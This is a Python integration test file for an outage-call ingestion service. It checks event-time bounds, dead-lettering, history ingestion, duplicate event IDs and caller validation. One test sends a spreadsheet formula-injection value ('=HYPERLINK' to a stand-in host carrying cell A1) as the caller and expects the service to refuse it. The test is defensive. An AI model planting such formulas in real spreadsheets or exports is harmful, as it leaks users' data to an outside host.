"""Event time with a bound, through a real broker and worker: no call can move the clock or
stop the worker (issue 15), and calls recorded offline go in as history."""

import asyncio
import json
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiokafka import AIOKafkaProducer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from streams.broker import EmbeddedBroker
from tests.integration.conftest import Worker, start_worker, wait_for

pytestmark = pytest.mark.integration

BUILDING = "B-FDR2-T3-F1-2"  # its premises P-FDR2-T3-F1-B2-1..4 open the module's incident
CALLER_PREMISE = "P-FDR3-T1-F1-B1-1"  # one flat that calls again and again: never an incident
TIMER_TYPES = {"incident_unacknowledged", "deadline_passed", "incident_stale"}


def call(premise: str, occurred_at: Any, **extra: Any) -> dict[str, Any]:
    return {
        "type": "call_reported",
        "schema_version": 1,
        "event_id": f"call-{uuid.uuid4()}",
        "occurred_at": occurred_at,
        "utility": "power",
        "premise_id": premise,
        "symptom": "no_power",
        **extra,
    }


def now(**delta: float) -> str:
    return (datetime.now(UTC) + timedelta(**delta)).isoformat()


@pytest.fixture(scope="module")
def broker() -> Any:
    with EmbeddedBroker() as running:
        yield running


@pytest.fixture(scope="module")
def worker(broker: EmbeddedBroker, tmp_path_factory: pytest.TempPathFactory) -> Any:
    running = start_worker(broker, tmp_path_factory.mktemp("worker"))
    yield running
    running.stop()


@pytest.fixture(scope="module")
def incident(worker: Worker) -> dict[str, Any]:
    """A building incident opened now by three flats; its first timer is due in 15 minutes."""
    for n in (1, 2, 3):
        status, body = worker.post("/v1/calls", call(f"P-FDR2-T3-F1-B2-{n}", now()))
        assert status == 202, body
    found: dict[str, Any] = wait_for(lambda: open_incident(worker))
    return found


def open_incident(worker: Worker) -> dict[str, Any] | None:
    status, body = worker.get("/v1/incidents")
    assert status == 200, body
    return next((i for i in body["incidents"] if i["device_id"] == BUILDING), None)


def timers_fired(worker: Worker, incident_id: str) -> list[dict[str, Any]]:
    """The timeline entries of `incident_id` that a timer made (reminders, deadlines, stale)."""
    status, body = worker.get(f"/v1/incidents/{incident_id}")
    assert status == 200, body
    return [e for e in body["timeline"] if e["type"] in TIMER_TYPES]


def alive(worker: Worker) -> dict[str, Any]:
    assert worker.process.poll() is None, worker.log.read_text()[-3000:]
    status, body = worker.get("/health")
    assert status == 200, body
    return body


def test_a_call_dated_in_year_9999_is_refused_and_the_worker_lives(
    worker: Worker, incident: dict[str, Any]
) -> None:
    """The call that crashed the worker is a 400 naming occurred_at; the worker answers on."""
    status, body = worker.post("/v1/calls", call(CALLER_PREMISE, "9999-12-31T23:59:59Z"))
    assert status == 400, body
    assert body["field"] == "occurred_at" and "ahead of the service's clock" in body["error"]
    assert alive(worker)["status"] == "ok"


def test_a_call_two_days_ahead_neither_ages_incidents_nor_is_taken(
    worker: Worker, broker: EmbeddedBroker, incident: dict[str, Any]
) -> None:
    """A call two days ahead is refused over HTTP and dead-lettered when written to the topic;
    the open incident pages no reminder or deadline."""
    status, body = worker.post("/v1/calls", call(CALLER_PREMISE, now(days=2)))
    assert status == 400 and "5 min ahead" in body["error"], body
    ahead = call(CALLER_PREMISE, now(days=2))
    letters = asyncio.run(produce_and_read_dead_letters(broker, [json.dumps(ahead).encode()]))
    mine = [d for d in letters if ahead["event_id"] in d["payload"]]
    assert mine and "ahead of the service's clock" in mine[0]["reason"], letters
    assert timers_fired(worker, incident["incident_id"]) == []


def test_a_call_past_the_dedupe_horizon_goes_in_as_history(worker: Worker) -> None:
    """A call older than 48 h is refused as live (the answer names /v1/history) and taken as
    history, which opens nothing; history in the future is refused too."""
    old = call(CALLER_PREMISE, "2013-12-25T07:00:00-05:00")
    status, body = worker.post("/v1/calls", old)
    assert status == 400 and "/v1/history" in body["error"], body
    status, body = worker.post("/v1/history", {"events": [old]})
    assert status == 202 and body["event_ids"] == [old["event_id"]], body
    status, body = worker.post("/v1/history", call(CALLER_PREMISE, now(days=3)))
    assert status == 400 and body["field"] == "occurred_at", body
    status, body = worker.post("/v1/history", {"events": [old, {"type": "scada_signal"}]})
    assert status == 400 and body["error"].startswith("events[1]:"), body
    # History is never correlated: the call has no outcome however long one waits for it.
    status, _ = worker.get(f"/v1/calls/{old['event_id']}")
    assert status == 404


def test_an_event_id_used_again_for_another_place_is_a_409(worker: Worker) -> None:
    """The same event_id with other content is refused (the first stays); a resend is a 202."""
    first = call(CALLER_PREMISE, now())
    assert worker.post("/v1/calls", first)[0] == 202
    assert worker.post("/v1/calls", first)[0] == 202  # a client's retry of the same event
    other = {**first, "premise_id": "P-FDR3-T1-F1-B1-2"}
    status, body = worker.post("/v1/calls", other)
    assert status == 409 and body["field"] == "event_id", body


def test_a_caller_that_is_no_phone_number_is_a_400(worker: Worker) -> None:
    """A spreadsheet formula as the caller is refused; a written phone number is taken."""
    bad = call(CALLER_PREMISE, now(), caller='=HYPERLINK("http://e.example/?"&A1)')
    status, body = worker.post("/v1/calls", bad)
    assert status == 400 and body["field"] == "caller", body
    good = call(CALLER_PREMISE, now(), caller="+1 (212) 555-0100")
    assert worker.post("/v1/calls", good)[0] == 202


async def produce_and_read_dead_letters(
    broker: EmbeddedBroker, values: list[bytes], timeout: float = 60
) -> list[dict[str, Any]]:
    """Write `values` to `calls`, then read dead-letter until each one's event id is there."""
    from tests.integration.test_end_to_end import write_then_read_dead_letters

    ids = [json.loads(v)["event_id"] for v in values]
    return await write_then_read_dead_letters(
        broker,
        [("calls", v, 0) for v in values],  # one partition: read in order
        lambda found: all(any(i in d["payload"] for d in found) for i in ids),
        timeout,
    )


# Event times as senders get them wrong: any year, any offset, seconds 60, date-only, epoch
# numbers, text. Each must end in a 202 or a 4xx that says why, never a dead worker.
offsets = st.one_of(
    st.just("Z"),
    st.just(""),
    st.builds(
        lambda sign, h, m: f"{sign}{h:02}:{m:02}",
        st.sampled_from("+-"),
        st.integers(0, 25),
        st.integers(0, 59),
    ),
)
stamps = st.builds(
    lambda year, rest, second, offset: f"{year:04}-{rest}:{second:02}{offset}",
    st.integers(1, 9999),
    st.sampled_from(["01-01T00:00", "12-31T23:59", "06-30T23:59", "02-29T12:00"]),
    st.integers(0, 60),
    offsets,
)
recent = st.builds(
    lambda minutes, hours: (
        datetime.now(UTC) + timedelta(minutes=minutes, hours=hours)
    ).isoformat(),
    st.integers(-10, 10),
    st.sampled_from([-49, -47, -1, 0, 1, 48, 24 * 365 * 100]),
)
occurred = st.one_of(
    stamps,
    recent,
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False),
    st.sampled_from(["", "yesterday", "2024-13-01T00:00:00Z", None]),
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(occurred_at=occurred)
def test_any_event_time_is_a_202_or_a_4xx_and_the_worker_lives(
    worker: Worker, incident: dict[str, Any], occurred_at: Any
) -> None:
    """Any occurred_at over HTTP gets a 202 or a 4xx with its reason; the worker stays up."""
    status, answer = worker.post("/v1/calls", call(CALLER_PREMISE, occurred_at))
    assert status == 202 or (400 <= status < 500 and status != 429 and answer["error"]), answer
    assert worker.process.poll() is None
    assert timers_fired(worker, incident["incident_id"]) == []


HOSTILE_TIMES: list[Any] = [
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59+14:00",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00-05:00",
    "2016-12-31T23:59:60Z",
    "1970-01-01T00:00:00Z",
    2**40,
    -(2**40),
    1e300,
    "",
    None,
]


def test_hostile_times_written_to_the_topic_fire_no_timer_early(
    worker: Worker, broker: EmbeddedBroker, incident: dict[str, Any]
) -> None:
    """Calls with hostile times written straight to `calls` are dead-lettered or placed; the
    worker lives and the incident opened now has no reminder or deadline (15 min away)."""
    bodies = [call(CALLER_PREMISE, t) for t in HOSTILE_TIMES]
    bodies += [call(CALLER_PREMISE, now(days=d)) for d in (2, 365, -3)]
    sentinel = call("P-FDR3-T1-F1-B1-4", now())  # one partition, written last: read last
    values = [json.dumps(b).encode() for b in [*bodies, sentinel]]
    letters = asyncio.run(produce_and_read_dead_letters(broker, values[:-1]))
    reasons = {
        b["event_id"]: d["reason"] for b in bodies for d in letters if b["event_id"] in d["payload"]
    }
    assert len(reasons) == len(bodies), letters  # not one of them could be placed
    assert all(reasons.values())

    async def write_sentinel() -> None:
        producer = AIOKafkaProducer(bootstrap_servers=broker.bootstrap)
        await producer.start()
        try:
            await producer.send_and_wait("calls", values[-1], partition=0)
        finally:
            await producer.stop()

    asyncio.run(write_sentinel())
    # The sentinel's outcome means its domain has folded every call written before it.
    wait_for(lambda: worker.get(f"/v1/calls/{sentinel['event_id']}")[0] == 200, timeout=60)
    alive(worker)
    assert timers_fired(worker, incident["incident_id"]) == []
    assert open_incident(worker) is not None
